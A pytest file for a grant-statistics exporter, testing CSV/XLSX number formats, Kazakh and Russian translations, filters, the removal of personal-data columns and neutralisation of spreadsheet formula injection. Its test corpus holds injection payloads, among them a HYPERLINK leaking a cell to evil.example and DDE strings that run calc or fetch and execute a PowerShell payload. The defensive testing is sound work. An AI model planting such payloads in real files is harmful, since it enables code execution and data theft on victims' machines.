"""Every export reopened with csv and openpyxl: values, number formats, frozen headers and filters, no cell
holding a formula (an injection corpus in grantee and title names), personal data left out, filters
respected; the CLI writes the same workbook."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from grantstats import export, i18n, metrics, store
from grantstats.findings import rules
from grantstats.cli import main
from grantstats.model import Finding, IndicatorValue, Number, Report, Where
from tests.conftest import handmade_reports
from ui import tables

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "-",
]


def injected_reports() -> list[Report]:
    """One report per injection string, as its grantee and as its title."""
    out = []
    for i, text in enumerate(INJECTIONS):
        out.append(Report(
            grantee=text, title=text, contract_no=f"{i + 1}", contract_date=date(2023, 1, 1), year=2023,
            direction="4", regions=[("KZ-75", 1.0)], grant_amount=Number(1_000_000.0 * (i + 1)),
            indicators={"direct_beneficiaries": IndicatorValue("direct_beneficiaries", Number(10.0), Number(12.0))},
            source=Where("Отчет", "A1")))
    return out


def make_db(path, reports) -> None:
    con = store.connect(path)
    store.save_files(con, [store.ParsedFile("/hand/made.xlsx", "made.xlsx", "0" * 64, 1, "form", reports)])
    con.close()


@pytest.fixture()
def made_db(tmp_path):
    db = tmp_path / "made.duckdb"
    make_db(db, handmade_reports())
    return db


@pytest.fixture()
def injected_db(tmp_path):
    db = tmp_path / "injected.duckdb"
    make_db(db, injected_reports())
    return db


def read_csv(data: bytes, sep: str = ",") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=sep))


def all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws, cell


def assert_no_formula(wb) -> None:
    for ws, cell in all_cells(wb):
        assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} holds a formula: {cell.value!r}"
        if isinstance(cell.value, str) and cell.value.startswith("="):
            assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"


# ------------------------------------------------------------------------------------------- cell safety

@pytest.mark.parametrize("text", INJECTIONS)
def test_safe_text_defuses_every_formula_start(text):
    assert export.safe_text(text) == "'" + text


@pytest.mark.parametrize("value", ["ОО «Жастар»", "Проект = мечта", "", 5, -5, 2.5, None])
def test_safe_text_leaves_other_values_alone(value):
    assert export.safe_text(value) == value


# ---------------------------------------------------------------------------------------------------- CSV

def test_csv_has_bom_escapes_formulas_and_keeps_numbers_numeric():
    df = pd.DataFrame({"grantee": INJECTIONS, "grant_amount": [1_000_000.0 * (i + 1) for i in range(len(INJECTIONS))],
                       "reports": list(range(len(INJECTIONS))), "direct_achievement": [0.5] * len(INJECTIONS)})
    rows = read_csv(export.table_csv_bytes(df))
    assert rows[0] == ["grantee", "grant_amount", "reports", "direct_achievement"]
    for text, row in zip(INJECTIONS, rows[1:]):
        assert row[0] == "'" + text  # inert: starts with an apostrophe, the text kept after it
    assert [row[1] for row in rows[1:3]] == ["1000000", "2000000"]
    assert float(rows[1][3]) == 0.5 and rows[3][2] == "2"


def test_csv_with_semicolons_uses_decimal_commas():
    df = pd.DataFrame({"region": ["KZ-75", None], "share": [0.125, 1.0], "amount": [1234.5, None]})
    rows = read_csv(export.table_csv_bytes(df, sep=";"), sep=";")
    assert rows == [["region", "share", "amount"], ["KZ-75", "0,125", "1234,5"], ["", "1", ""]]


def test_formula_looking_headers_are_escaped_too():
    rows = read_csv(export.table_csv_bytes(pd.DataFrame({"=evil()": [1]})))
    assert rows[0] == ["'=evil()"]


def test_personal_data_columns_are_never_exported():
    df = pd.DataFrame({"grantee": ["ОО «А»"], "head_name": ["Иванов Иван"], "phone": ["+7 701 000 00 00"],
                       "partner_address": ["г. Алматы, ул. Абая 1"], "email": ["a@b.kz"], "Контакты партнеров": ["x"],
                       "grant_amount": [100.0]})
    csv_text = export.table_csv_bytes(df).decode("utf-8-sig")
    assert csv_text.splitlines()[0] == "grantee,grant_amount"
    for secret in ("Иванов", "701", "Абая", "a@b.kz"):
        assert secret not in csv_text
    wb = load_workbook(io.BytesIO(export.table_xlsx_bytes(df)))
    values = [c.value for _, c in all_cells(wb)]
    assert values == ["grantee", "grant_amount", "ОО «А»", 100]


# --------------------------------------------------------------------------------------------- one table

def test_table_xlsx_keeps_text_as_text_numbers_numeric_with_formats():
    df = pd.DataFrame({"grantee": INJECTIONS, "year": [2023] * len(INJECTIONS),
                       "grant_amount": [1_500_000.0] * len(INJECTIONS), "reports": [3] * len(INJECTIONS),
                       "direct_achievement": [0.875] * len(INJECTIONS), "direct_beneficiaries": [10.4] * len(INJECTIONS)})
    wb = load_workbook(io.BytesIO(export.table_xlsx_bytes(df)))
    ws = wb.active
    assert_no_formula(wb)
    assert [c.value for c in ws[1]] == list(df.columns)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:F{len(INJECTIONS) + 1}"
    assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb == "FF1F5F8B"
    for i, text in enumerate(INJECTIONS, start=2):
        assert ws.cell(i, 1).value == text.replace("\r", "\n") or ws.cell(i, 1).value == text
        assert ws.cell(i, 1).data_type == "s"
    row = ws[2]
    assert [c.value for c in row[1:]] == [2023, 1_500_000, 3, 0.875, 10.4]
    assert [c.number_format for c in row[1:]] == ["0", '#,##0 "₸"', "#,##0", "0.0%", "#,##0"]
    assert ws.column_dimensions["A"].width >= 8


def test_table_xlsx_takes_the_dashboards_kinds_and_translated_headers():
    df = pd.DataFrame({"Год": [2023], "Сумма грантов": [4_000_000.0], "Выполнение плана": [0.98], "Мое": [1.5]})
    ws = load_workbook(io.BytesIO(tables.table_xlsx_bytes(df, kinds={"Мое": "money"}))).active
    assert [c.number_format for c in ws[2]] == ["0", '#,##0 "₸"', "0.0%", '#,##0 "₸"']


def test_tables_module_delegates_to_export():
    df = pd.DataFrame({"grantee": ["=1+1"], "reports": [1]})
    assert tables.table_csv_bytes(df) == export.table_csv_bytes(df)
    assert tables.table_csv_bytes(df, sep=";") == export.table_csv_bytes(df, sep=";")
    wb = load_workbook(io.BytesIO(tables.table_xlsx_bytes(df)))
    assert wb.active["A2"].value == "=1+1" and wb.active["A2"].data_type == "s"


def test_control_characters_are_dropped_not_fatal():
    df = pd.DataFrame({"title": ["bell\x07 and null\x00 here"]})
    assert load_workbook(io.BytesIO(export.table_xlsx_bytes(df))).active["A2"].value == "bell and null here"


# -------------------------------------------------------------------------------------- summary workbook

def sheet_rows(ws, header_row: int) -> tuple[list[str], list[list]]:
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=header_row)]
    return rows[0], rows[1:]


def test_summary_workbook_holds_every_sheet_with_hand_worked_figures(made_db, tmp_path):
    out = tmp_path / "svod.xlsx"
    con = store.connect(made_db)
    export.summary_workbook(con, metrics.Filter(), out, db_label="made.duckdb")
    con.close()
    wb = load_workbook(out)
    assert wb.sheetnames == ["Сводка", "По регионам", "По направлениям", "По годам", "НПО", "План и факт",
                             "Участники", "Качество данных", "Замечания"]
    assert_no_formula(wb)
    cover = {r[0]: r[1] for r in wb["Сводка"].iter_rows(values_only=True) if r[0]}
    assert cover["Отчетов в выборке"] == 5 and cover["из них с ошибками"] == 1  # only B has an error
    assert cover["Сумма грантов"] == 27_000_000
    assert cover["Выполнение плана (прямые)"] == pytest.approx(740 / 750)
    assert "made.duckdb: 1 файлов, 5 отчетов" in cover["Источник данных"]
    assert "нет (все отчеты)" in [r[1] for r in wb["Сводка"].iter_rows(values_only=True)]

    ws = wb["По регионам"]
    header, rows = sheet_rows(ws, 5)
    assert ws.freeze_panes == "C6" and ws.auto_filter.ref.startswith("A5:")
    assert header[:3] == ["Код региона", "Регион", "Отчетов"]
    amount = header.index("Сумма грантов")
    by_region = {r[0]: r[amount] for r in rows[:-1]}
    # E (2 000 000) is split between KZ-79 and KZ-27: 6 000 000 + 1 000 000 and 1 000 000
    assert by_region == {"KZ-75": 9_000_000, "KZ-79": 7_000_000, "KZ-27": 1_000_000, "KZ-71": 10_000_000}
    total = rows[-1]
    assert total[0] == "Итого" and total[amount] == 27_000_000 and total[2] == 5  # each report once
    assert ws.cell(ws.max_row, amount + 1).font.b
    first = ws[6]
    assert first[amount].number_format == '#,##0 "₸"' and first[2].number_format == "#,##0"
    assert first[header.index("Выполнение плана (прямые)")].number_format == "0.0%"

    header, rows = sheet_rows(wb["По годам"], 4)
    assert {r[0]: r[header.index("Сумма грантов")] for r in rows[:-1]} == {2022: 10_000_000, 2023: 17_000_000}
    assert wb["По годам"]["A5"].number_format == "0"

    header, rows = sheet_rows(wb["НПО"], 4)
    ngos = {r[0]: r[header.index("Отчетов")] for r in rows[:-1]}
    assert ngos == {"ОО «Жастар»": 2, "ОФ «Болашак»": 1, "ЧУ «Сана»": 1, "КФ «Нур»": 1}

    header, rows = sheet_rows(wb["План и факт"], 5)
    direct = next(r for r in rows if r[0] == "direct_beneficiaries")
    assert (direct[header.index("Σ план")], direct[header.index("Σ факт")]) == (750, 740)

    header, rows = sheet_rows(wb["Участники"], 4)
    gender = {r[1]: r[header.index("Человек")] for r in rows if r[0] == "Пол"}
    assert gender == {"male": pytest.approx(296), "female": pytest.approx(444)}  # 40 % / 60 % of 740

    notes = [v for row in wb["Качество данных"].iter_rows(values_only=True) for v in row if isinstance(v, str)]
    assert any(v.startswith("Отчетов в выборке: 5; из них с ошибками: 1;") for v in notes), notes  # not «5.0»

    header, rows = sheet_rows(wb["Замечания"], 3)
    assert len(rows) == 6 and rows[0][header.index("Важность")] == "ошибка"  # 5 warnings + 1 error, errors first
    assert rows[0][header.index("Ячейка")] == "D10"


def test_summary_workbook_respects_the_filters(made_db):
    con = store.connect(made_db)
    data = export.summary_workbook(con, metrics.Filter(regions=("KZ-75",), year_from=2023))
    con.close()
    wb = load_workbook(io.BytesIO(data))
    cover = {r[0]: r[1] for r in wb["Сводка"].iter_rows(values_only=True) if r[0]}
    assert cover["Регионы"] == "г. Алматы" and cover["Годы"] == "2023 – …"
    assert cover["Отчетов в выборке"] == 1 and cover["Сумма грантов"] == 5_000_000  # C only
    header, rows = sheet_rows(wb["По годам"], 4)
    assert [r[0] for r in rows] == [2023, "Итого"]


def test_summary_workbook_injection_corpus_stays_text(injected_db):
    con = store.connect(injected_db)
    data = export.summary_workbook(con, metrics.Filter(), lang="en")
    listed = metrics.report_list(con, metrics.Filter())
    con.close()
    wb = load_workbook(io.BytesIO(data))
    assert_no_formula(wb)
    header, rows = sheet_rows(wb["NGOs"], 4)
    names = {r[0] for r in rows[:-1]} - {None}  # NGOs by name: «=1+1» and «\t=1+1» are one NGO
    assert len(names) >= 5 and names <= set(INJECTIONS)  # every name written exactly as typed, as text
    # and the report list as the dashboard downloads it
    rows = read_csv(tables.table_csv_bytes(listed))
    col = rows[0].index("grantee")
    assert sorted(r[col] for r in rows[1:]) == sorted("'" + t for t in INJECTIONS)
    xl = load_workbook(io.BytesIO(tables.table_xlsx_bytes(listed)))
    assert_no_formula(xl)


def test_summary_workbook_is_read_by_calamine_too(made_db):
    from python_calamine import CalamineWorkbook

    con = store.connect(made_db)
    data = export.summary_workbook(con, metrics.Filter())
    con.close()
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names[0] == "Сводка"
    rows = book.get_sheet_by_name("По годам").to_python()
    assert ["Год", "Отчетов"] == rows[3][:2]


def test_empty_database_gives_a_workbook_with_zero_reports(tmp_path):
    con = store.connect(tmp_path / "empty.duckdb")
    wb = load_workbook(io.BytesIO(export.summary_workbook(con, metrics.Filter())))
    con.close()
    cover = {r[0]: r[1] for r in wb["Сводка"].iter_rows(values_only=True) if r[0]}
    assert cover["Отчетов в выборке"] == 0
    assert len(wb.sheetnames) == 9


def numeric_cells(wb) -> dict[tuple[int, str], float]:
    """Every number in the workbook by (sheet position, cell): what must not change with the language."""
    return {(i, cell.coordinate): cell.value for i, ws in enumerate(wb.worksheets) for row in ws.iter_rows()
            for cell in row if isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool)}


def test_summary_workbook_in_kazakh_has_kazakh_texts_and_the_russian_figures(made_db):
    con = store.connect(made_db)
    kk = load_workbook(io.BytesIO(export.summary_workbook(con, metrics.Filter(), lang="kk", db_label="made.duckdb")))
    ru = load_workbook(io.BytesIO(export.summary_workbook(con, metrics.Filter(), lang="ru", db_label="made.duckdb")))
    filtered = load_workbook(io.BytesIO(export.summary_workbook(con, metrics.Filter(regions=("KZ-75",)), lang="kk")))
    con.close()
    assert kk.sheetnames == ["Жиынтық", "Өңірлер бойынша", "Бағыттар бойынша", "Жылдар бойынша", "ҮЕҰ",
                             "Жоспар және факт", "Қатысушылар", "Деректер сапасы", "Ескертпелер"]
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in kk.sheetnames)
    assert_no_formula(kk)

    sheet = kk["Жиынтық"]
    assert sheet["A1"].value == "Жиынтық кесте: мемлекеттік әлеуметтік гранттар бойынша қорытынды есептер"
    cover = {r[0]: r[1] for r in sheet.iter_rows(values_only=True) if r[0]}
    assert cover["Іріктемедегі есептер"] == 5 and cover["оның ішінде қателері барлары"] == 1
    assert cover["Гранттар сомасы"] == 27_000_000 and cover["Тікелей бенефициарлар, факт"] == 740
    assert "made.duckdb дерекқоры: 1 файл, 5 есеп" in cover["Деректер көзі"]
    assert "Сүзгілер" in cover and "жоқ (барлық есептер)" in [r[1] for r in sheet.iter_rows(values_only=True)]
    assert cover["Өңірлер бойынша"] == "Өңірлер бойынша көрсеткіштер"  # the list of sheets
    kk_cover = {r[0]: r[1] for r in filtered["Жиынтық"].iter_rows(values_only=True) if r[0]}
    assert kk_cover["Өңірлер"] == "Алматы қаласы"

    header, rows = sheet_rows(kk["Өңірлер бойынша"], 5)
    assert header[:3] == ["Өңір коды", "Өңір", "Есептер саны"] and "Гранттар сомасы" in header
    assert {r[0]: r[1] for r in rows[:-1]}["KZ-27"] == "Батыс Қазақстан облысы"
    assert rows[-1][0] == "Барлығы"
    header, rows = sheet_rows(kk["Жоспар және факт"], 5)
    assert header[:3] == ["Индикатор коды", "Индикатор", "Өлшем бірлігі"] and "Σ жоспар" in header
    assert next(r for r in rows if r[0] == "direct_beneficiaries")[2] == "адам"
    header, rows = sheet_rows(kk["Қатысушылар"], 4)
    assert header[:3] == ["Кесте", "Топ коды", "Топ"]
    assert {r[1]: r[2] for r in rows if r[0] == "Жынысы"}["female"] == "Әйелдер"
    header, rows = sheet_rows(kk["Ескертпелер"], 3)
    assert header[:4] == ["Есеп", "Грант алушы", "Жыл", "Маңыздылығы"] and rows[0][3] == "қате"

    figures = numeric_cells(kk)
    assert figures == numeric_cells(ru) and len(figures) > 100


def test_summary_workbook_refuses_a_language_it_has_no_texts_for(made_db):
    con = store.connect(made_db)
    with pytest.raises(ValueError, match="unknown language 'de'"):
        export.summary_workbook(con, metrics.Filter(), lang="de")
    con.close()


# -------------------------------------------------------------------------------------------------- CLI

def test_cli_export_writes_the_workbook_and_the_summary_table(made_db, tmp_path, capsys):
    out = tmp_path / "out" / "svod.xlsx"
    assert main(["export", "--out", str(out), "--region", "KZ-79", "--db", str(made_db)]) == 0
    said = capsys.readouterr().out
    assert "summary workbook of 2 reports (1 with errors)" in said
    cover = {r[0]: r[1] for r in load_workbook(out)["Сводка"].iter_rows(values_only=True) if r[0]}
    assert cover["Регионы"] == "г. Шымкент" and cover["Отчетов в выборке"] == 2

    table = tmp_path / "by-region.csv"
    assert main(["export", "--out", str(table), "--by", "region", "--sep", ";", "--db", str(made_db)]) == 0
    rows = read_csv(table.read_bytes(), sep=";")
    assert rows[0][:2] == ["region", "reports"]
    assert {r[0]: r[rows[0].index("grant_amount")] for r in rows[1:]}["KZ-79"] == "7000000"


def test_cli_export_writes_a_kazakh_workbook(made_db, tmp_path):
    out = tmp_path / "jiyntyq.xlsx"
    assert main(["export", "--out", str(out), "--lang", "kk", "--db", str(made_db)]) == 0
    wb = load_workbook(out)
    assert wb.sheetnames[0] == "Жиынтық"
    cover = {r[0]: r[1] for r in wb["Жиынтық"].iter_rows(values_only=True) if r[0]}
    assert cover["Іріктемедегі есептер"] == 5


def test_cli_export_refuses_bad_usage_in_one_line(made_db, tmp_path, capsys):
    assert main(["export", "--out", str(tmp_path / "x.pdf"), "--db", str(made_db)]) == 2
    assert main(["export", "--out", str(tmp_path / "x.xlsx"), "--region", "KZ-99", "--db", str(made_db)]) == 2
    err = capsys.readouterr().err
    assert "not x.pdf" in err and "unknown region code 'KZ-99'" in err and "Traceback" not in err


def test_summary_workbook_names_the_rules_in_its_language(tmp_path):
    reports = handmade_reports()
    reports[0].findings.append(Finding("missing_field", "warning", "Не указано обязательное поле: регион",
                                       "Missing field: region", "Отчет", "B8"))
    make_db(tmp_path / "r.duckdb", reports)
    con = store.connect(tmp_path / "r.duckdb")
    books = {lang: load_workbook(io.BytesIO(export.summary_workbook(con, metrics.Filter(), lang=lang)))
             for lang in ("ru", "kk", "en")}
    con.close()
    for lang, (per_rule, findings) in {"ru": ("Качество данных", "Замечания"),
                                       "kk": ("Деректер сапасы", "Ескертпелер")}.items():
        title = rules.rule_titles(["missing_field"], lang)[0]
        header, rows = sheet_rows(books[lang][findings], 3)
        rule = header.index(i18n.t("col_rule", lang))
        assert title in {r[rule] for r in rows} and "missing_field" not in {r[rule] for r in rows}
        assert title in [v for row in books[lang][per_rule].iter_rows(values_only=True) for v in row]
    assert "Missing field" in [v for ws in books["en"] for row in ws.iter_rows(values_only=True) for v in row]


# ------------------------------------------------------------------------ file names, rounding, order

def test_file_names_name_the_filter():
    from grantstats.metrics import Filter

    assert export.summary_file_name(Filter(regions=("KZ-47",), year_from=2022, year_to=2022)) == "grantstats-KZ-47-2022.xlsx"
    assert export.summary_file_name(Filter()) == "grantstats-all.xlsx"
    flt = Filter(regions=("KZ-75", "KZ-79"), directions=("13-1",), year_from=2019, year_to=2021, exclude_errors=True)
    assert export.file_name("grantstats-regions", flt, "csv") == "grantstats-regions-KZ-75+KZ-79-dir13-1-2019-2021-no-errors.csv"
    assert export.file_name("grantstats-by-year", Filter(year_from=2020), "xlsx") == "grantstats-by-year-from2020.xlsx"
    assert export.file_name("R1-passport", None, "csv") == "R1-passport.csv"
    assert export.filter_stem(Filter(text="ОО «Жастар»/..")) == "search-ОО_Жастар"


def test_csv_rounds_people_and_money_to_whole_units_and_ratios_to_a_hundredth_of_a_percent():
    df = pd.DataFrame({"Регион": ["а", "б", "в"], "Люди": [12.5, 2.4999, None], "Деньги": [1234.5, -0.5, 3.0],
                       "Доля": [0.123456, 1.0, 0.98765]})
    kinds = {"Люди": "count", "Деньги": "money", "Доля": "share"}
    header, *rows = read_csv(export.table_csv_bytes(df, kinds=kinds))
    columns = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    assert columns["Люди"] == ["13", "2", ""]  # half a person up, as a person is counted
    assert columns["Деньги"] == ["1235", "-1", "3"]
    assert columns["Доля"] == ["0.1235", "1", "0.9877"]
    header, first, *_ = read_csv(export.table_csv_bytes(df, sep=";", kinds=kinds), sep=";")
    assert first[header.index("Доля")] == "0,1235"


def test_directions_come_in_the_laws_order_not_as_text(tmp_path):
    con = store.connect(tmp_path / "d.duckdb")
    codes = ["13-1", "2", "13", "10", "1", "13-2", "16"]
    store.save_files(con, [store.ParsedFile("/d.xlsx", "d.xlsx", "sha-d", 1, "registry",
                                            [Report(grantee=f"ОО «{c}»", contract_no=c, year=2023, direction=c,
                                                    grant_amount=Number(1.0)) for c in codes])])
    expected = ["1", "2", "10", "13", "13-1", "13-2", "16"]
    assert metrics.totals(con, metrics.Filter(), by="direction")["direction"].tolist() == expected
    assert metrics.plan_vs_fact(con, metrics.Filter(), by="direction")["direction"].tolist() in ([], expected)
    wb = load_workbook(io.BytesIO(export.summary_workbook(con, metrics.Filter(), lang="en")), read_only=True)
    sheet = wb[i18n.t("by_direction", "en")]
    column = [row[0] for row in sheet.iter_rows(values_only=True) if row and row[0] in set(codes)]
    assert column == expected
    assert len(wb.sheetnames) >= 6
    con.close()
